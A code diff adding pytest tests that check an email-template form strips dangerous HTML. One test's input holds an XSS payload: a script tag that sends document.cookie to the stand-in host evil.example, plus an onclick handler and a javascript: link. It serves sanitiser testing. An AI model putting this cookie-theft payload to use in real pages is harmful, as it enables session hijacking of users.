@@ -258,3 +258,51 @@ def test_only_who_may_run_outreach_may_mark_a_reply_in_the_admin(client, recruit
     assert "mark_replied_action" not in page
     enrollment.refresh_from_db()
     assert enrollment.status == Enrollment.Status.ACTIVE
+
+
+def test_a_script_typed_into_the_html_body_is_removed_at_save_and_named(recruiter_client):
+    response = recruiter_client.post(
+        TEMPLATES_ADD,
+        {
+            "name": "Hostile",
+            "subject": "Hi {{ candidate.first_name }}",
+            "body_text": "Hello {{ candidate.first_name }}",
+            "body_html": (
+                '<p onclick="steal()">Hello {{ candidate.first_name }},</p>'
+                "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
+                '<a href="javascript:alert(1)">our lab</a> <a href="https://closer.example">site</a>'
+            ),
+            "pitch_paragraphs-TOTAL_FORMS": "0",
+            "pitch_paragraphs-INITIAL_FORMS": "0",
+        },
+        follow=True,
+    )
+
+    page = response.content.decode()
+    assert (
+        "Removed from the HTML body, which an email must not carry: &lt;script&gt;, "
+        "href on &lt;a&gt;, onclick on &lt;p&gt;." in page
+    )
+    saved = MessageTemplate.objects.get(name="Hostile").body_html
+    assert "<script" not in saved and "onclick" not in saved and "javascript:" not in saved
+    assert "Hello {{ candidate.first_name }}," in saved  # the variables stay
+    assert 'href="https://closer.example"' in saved
+
+
+def test_a_clean_html_body_is_saved_without_a_word(recruiter_client):
+    html = "<p>Hello {{ candidate.first_name }},</p><ul><li><strong>Research</strong></li></ul>"
+    response = recruiter_client.post(
+        TEMPLATES_ADD,
+        {
+            "name": "Clean",
+            "subject": "Hi",
+            "body_text": "Hello",
+            "body_html": html,
+            "pitch_paragraphs-TOTAL_FORMS": "0",
+            "pitch_paragraphs-INITIAL_FORMS": "0",
+        },
+        follow=True,
+    )
+
+    assert "Removed from the HTML body" not in response.content.decode()
+    assert MessageTemplate.objects.get(name="Clean").body_html == html
